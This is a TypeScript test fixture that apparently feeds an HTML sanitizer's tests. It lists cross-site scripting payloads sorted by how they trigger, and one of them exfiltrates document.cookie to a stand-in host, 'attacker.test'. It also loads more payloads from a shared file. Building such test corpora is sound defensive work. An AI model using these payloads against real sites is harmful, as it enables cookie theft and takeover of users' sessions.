import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** A text that attacks a page, and what it does on one that puts it in as it is. */
export interface Attack {
  payload: string;
  /** By itself, when somebody acts, by leading away, or nothing. */
  live: 'auto' | 'interaction' | 'navigation' | 'no';
}

const live = (kind: Attack['live'], payloads: string[]): Attack[] =>
  payloads.map((payload) => ({ payload, live: kind }));

/** One or more of every family. Those that live are seen to live: on a page that puts them in as they are. */
export const ownAttacks: Attack[] = [
  ...live('auto', [
    // Script, handlers of what loads, of what begins by itself.
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert&#40;1&#41;</script></svg>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<style>@keyframes a{}</style><b style="animation:a" onanimationstart=alert(1)>a</b>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src="javascript:parent.alert(1)"></iframe>',
    '<video><source onerror=alert(1)></video>',
    '<script>window.isTakenOver = 1</script>',
    '<script>document.body.append("gone")\nfetch("//attacker.test/?" + document.cookie)</script>',
    // Out of where a text may stand.
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '</script><script>alert(1)</script>',
    '</template></textarea></title></style></noscript><script>alert(1)</script>',
    '--><script>alert(1)</script><!--',
    ']]><script>alert(1)</script>',
    // Nothing runs, and still it is asked for.
    '<img src="//attacker.test/a.png">',
    '<link rel=stylesheet href="//attacker.test/a.css">',
    '<style>@import "//attacker.test/a.css";</style>',
    '<base href="//attacker.test/"><img src=a>',
  ]),
  ...live('interaction', [
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java&Tab;script&colon;alert(1)">a</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>',
    '<b onmouseover=alert(1)>a</b>',
    '<b onpointerenter=alert(1) tabindex=0>a</b>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<x onclick=alert(1)>a</x>',
  ]),
  ...live('navigation', [
    '<meta http-equiv=refresh content="0;url=/elsewhere">',
    '<script>location = "/elsewhere"</script>',
  ]),
  // Of what reads Markdown, reads twice, or evaluates.
  ...live('no', [
    '[a](javascript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '![a](x" onerror="alert(1))',
    '[a](https://a.test/"onmouseover="alert(1))',
    'https://a.test/"onmouseover=alert(1)//',
    '```"><script>alert(1)</script>\na\n```',
    '`</code><img src=x onerror=alert(1)>`',
    '" autofocus onfocus=alert(1) x="',
    '&lt;img src=x onerror=alert(1)&gt;',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "{{constructor.constructor('alert(1)')()}}",
    '<%= alert(1) %>',
    '\u202e<ſcript>alert(1)</ſcript>',
    '<a id=parvis name=fetch></a><form id=document><input name=cookie></form>',
    '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
  ]),
];

// Kept outside the repository: PARVIS_SHARED says where.
const file = [process.env.PARVIS_SHARED, join(import.meta.dirname, '../../../../shared')]
  .map((folder) => folder && join(folder, 'data/xss/payloads.dev.jsonl'))
  .find((path) => path && existsSync(path));

/** Why there are none of others, or nothing. */
export const missingAttacks: string | undefined = file
  ? undefined
  : 'data/xss is not there (PARVIS_SHARED, or ../shared beside the checkout)';

/** Those of public collections. */
export const readAttacks = (): Attack[] =>
  readFileSync(file!, 'utf8')
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line));

/** As one line, which is all that a name or a title can be. */
export const toLine = (payload: string, length: number): string =>
  payload
    .replace(/[\p{Cc}\p{Zl}\p{Zp}]/gu, ' ')
    .trim()
    .slice(0, length)
    .toWellFormed()
    .trim() || '-';
